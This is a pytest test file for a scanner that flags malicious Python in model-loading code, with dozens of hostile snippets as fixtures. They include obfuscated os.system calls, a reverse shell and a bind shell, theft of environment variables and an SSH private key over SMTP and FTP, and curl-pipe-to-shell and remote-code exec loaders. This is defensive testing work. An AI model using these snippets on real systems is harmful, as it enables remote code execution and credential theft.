"""Attacks that reach their end by objects, protocols, files and model weights."""

# one case a line

import pytest

from backstamp.core.verdict import Outcome
from kit.scanning import codes, verdict

CASES = {
    "const-pool": (
        'P=["os","system","payload"]\ngetattr(__import__(P[0]),P[1])(P[2])\n',
        ["PYS102", "PYS107"],
    ),
    "dict-pool": (
        'P={"m":"os","f":"system"}\ngetattr(__import__(P["m"]),P["f"])("payload")\n',
        ["PYS102", "PYS107"],
    ),
    "class-const": (
        'class K:\n    M="o"; N="s"\ngetattr(__import__(K.M+K.N),"system")("payload")\n',
        ["PYS102", "PYS107"],
    ),
    "reversed": ('getattr(__import__("".join(reversed("so"))),"system")("payload")\n', ["PYS102", "PYS107"]),
    "type-from-str": (
        'f=type("".__class__.__name__,(),{})\n__import__("os").system("payload")\n',
        ["PYS102"],
    ),
    "async-main": (
        'import asyncio,os\nasync def main():\n    os.system("payload")\nloop=asyncio.get_event_loop()\nloop.run_until_complete(main())\n',
        ["PYS102"],
    ),
    "executor": (
        'from concurrent.futures import ThreadPoolExecutor as T\nimport os\nwith T() as e:\n    e.submit(os.system,"payload")\n',
        ["PYS102"],
    ),
    "timer": (
        'from threading import Timer\nimport os\nTimer(1,lambda: os.system("payload")).start()\n',
        ["PYS102"],
    ),
    "contextmanager": (
        'import os,contextlib\n@contextlib.contextmanager\ndef c():\n    os.system("payload")\n    yield\nwith c(): pass\n',
        ["PYS102"],
    ),
    "enter": (
        'import os\nclass C:\n    def __enter__(s): os.system("payload")\n    def __exit__(s,*a): pass\nwith C(): pass\n',
        ["PYS102"],
    ),
    "deco-factory": (
        'import os\ndef d(c):\n    os.system(c)\n    return lambda f: f\n@d("payload")\ndef x(): pass\n',
        ["PYS102"],
    ),
    "wrapped-decorator": (
        'import os,functools\ndef d(f):\n    @functools.wraps(f)\n    def w(*a,**k):\n        os.system("payload")\n        return f(*a,**k)\n    return w\n@d\ndef x(): pass\nx()\n',
        ["PYS102"],
    ),
    "descriptor": (
        'import os\nclass D:\n    def __set_name__(s,o,n): os.system("payload")\nclass A:\n    x=D()\n',
        ["PYS102"],
    ),
    "iter": (
        'import os\nclass A:\n    def __iter__(s): os.system("payload"); return iter([])\nfor _ in A(): pass\n',
        ["PYS102"],
    ),
    "str-format-dunder": (
        'import os\nclass A:\n    def __str__(s): os.system("payload"); return ""\nprint(f"{A()}")\n',
        ["PYS102"],
    ),
    "except": ('import os\ntry: 1/0\nexcept Exception: os.system("payload")\n', ["PYS102"]),
    "assert": ('import os\nassert os.system("payload")==0\n', ["PYS102"]),
    "config-exec-b64": (
        "import base64\nclass M:\n    def __init__(self,config):\n        exec(base64.b64decode(config.code))\n",
        ["PYS103", "PYS121"],
    ),
    "txt-exec": ('exec(open("tokenizer.model").read())\n', ["PYS128"]),
    "safetensors-payload": (
        'import torch\nfrom safetensors.torch import load_file\nsd=load_file("model.safetensors")\nexec(bytes(sd["x"].tolist()).decode())\n',
        ["PYS103"],
    ),
    "requests-session": (
        'import requests\nwith requests.Session() as s:\n    r=s.get("http://a.example")\n    exec(r.content)\n',
        ["PYS104", "PYS118"],
    ),
    "import-of-dl": (
        'import urllib.request,sys,importlib\nurllib.request.urlretrieve("http://x/a.py","/tmp/mm/a.py")\nsys.path.insert(0,"/tmp/mm")\nimport a\n',
        ["PYS118", "PYS127"],
    ),
    "hub-exec": (
        'from huggingface_hub import hf_hub_download\np=hf_hub_download("evil/x","run.py")\nexec(open(p).read())\n',
        ["PYS104", "PYS130"],
    ),
    "hub-subprocess": (
        'from huggingface_hub import hf_hub_download\nimport subprocess,os\np=hf_hub_download("evil/x","bin")\nos.chmod(p,0o755)\nsubprocess.Popen([p])\n',
        ["PYS104", "PYS124"],
    ),
    "telemetry-ssh": ('import paramiko\nc=paramiko.SSHClient()\nc.connect("1.2.3.4")\n', ["PYS117"]),
    "smtp": (
        'import smtplib,os\ns=smtplib.SMTP("x.example")\ns.sendmail("a","b",str(dict(os.environ)))\n',
        ["PYS105", "PYS118"],
    ),
    "ftp": (
        'import ftplib,os\nf=ftplib.FTP("x.example")\nf.storbinary("STOR x",open(os.path.expanduser("~/.ssh/id_rsa"),"rb"))\n',
        ["PYS105", "PYS108", "PYS118"],
    ),
    "open-write-exec": (
        'import os\nopen("/tmp/x.sh","w").write("curl http://x|sh")\nos.system("sh /tmp/x.sh")\n',
        ["PYS102"],
    ),
    "b64-write-exec": (
        'import base64,subprocess\nopen("/tmp/x","wb").write(base64.b64decode("AAAA"))\nsubprocess.call(["/tmp/x"])\n',
        ["PYS101", "PYS104"],
    ),
    "zlib-lambda": (
        'import zlib,base64\nx=lambda d: zlib.decompress(base64.b64decode(d))\nexec(x(b"eJwrKMrMK9Ew1AQADlkCpw=="))\n',
        ["PYS103"],
    ),
    "socket-shell": (
        'import socket,subprocess\ns=socket.socket(); s.connect(("1.2.3.4",1))\nwhile 1:\n    c=s.recv(1024).decode()\n    o=subprocess.getoutput(c)\n    s.send(o.encode())\n',
        ["PYS104", "PYS117", "PYS118", "PYS124"],
    ),
    "bind-shell": (
        'import socket,os\ns=socket.socket(); s.bind(("0.0.0.0",4444)); s.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0); os.execv("/bin/sh",["sh"])\n',
        ["PYS102", "PYS106", "PYS118"],
    ),
    "xmlrpc": (
        'import xmlrpc.client\nexec(xmlrpc.client.ServerProxy("http://x").code())\n',
        ["PYS104", "PYS118"],
    ),
    "dns-txt": (
        'import dns.resolver\nexec(str(dns.resolver.resolve("x.example","TXT")[0]))\n',
        ["PYS104", "PYS118"],
    ),
    "unicode-esc": ("exec(\"\\u0069mport os\\nos.system('payload')\")\n", ["PYS102"]),
    "load-cpp-inline": (
        'from torch.utils.cpp_extension import load_inline\nload_inline(name="x",cpp_sources="int f(){system(\\"curl x|sh\\");}")\n',
        ["PYS114"],
    ),
    "runtime": ('import os\nos.popen2("payload")\n', ["PYS102"]),
    "nested-lambda-call": ('(lambda f,*a: f(*a))(__import__("os").system,"payload")\n', ["PYS102"]),
    "exec-globals": ('exec("s(c)",{"s":__import__("os").system,"c":"payload"})\n', ["PYS102"]),
    "mp": (
        'from multiprocessing import Process\nimport os\np=Process(target=os.system,args=("payload",))\np.start()\n',
        ["PYS102"],
    ),
}

DOUBTFUL = {
    "operator": (
        'import os\nclass A:\n    def __add__(s,o): os.system(o)\nA()+"payload"\n',
        ["PYS122", "PYS124"],
    ),
    "nn-forward-subprocess-unknown": (
        "import subprocess\nclass M:\n    def forward(self,x):\n        subprocess.Popen(self.cmd,shell=True)\n",
        ["PYS122", "PYS124"],
    ),
    "config-eval": ("class M:\n    def __init__(self,config):\n        eval(config.code)\n", ["PYS121"]),
    "json-exec": (
        'import json\nwith open("config.json") as f: c=json.load(f)\nexec(c["code"])\n',
        ["PYS130"],
    ),
    "os-environ-hook": ('import os\nos.environ["LD_PRELOAD"]="/tmp/x.so"\n', ["PYS112"]),
    "hash-name": (
        'import os\nfor n in dir(os):\n    if hash(n)==123 or n.startswith("sys") and n.endswith("em"):\n        getattr(os,n)("payload")\n',
        ["PYS129"],
    ),
}


@pytest.mark.parametrize(("source", "found"), CASES.values(), ids=CASES.keys())
def test_denies_code_which_attacks_when_it_is_loaded(source, found):
    data = source.encode()
    assert (verdict(data, "modeling_x.py").outcome, codes(data, "modeling_x.py")) == (Outcome.DENY, found)


@pytest.mark.parametrize(("source", "found"), DOUBTFUL.values(), ids=DOUBTFUL.keys())
def test_warns_of_code_whose_end_is_not_known(source, found):
    data = source.encode()
    assert (verdict(data, "modeling_x.py").outcome, codes(data, "modeling_x.py")) == (Outcome.WARN, found)
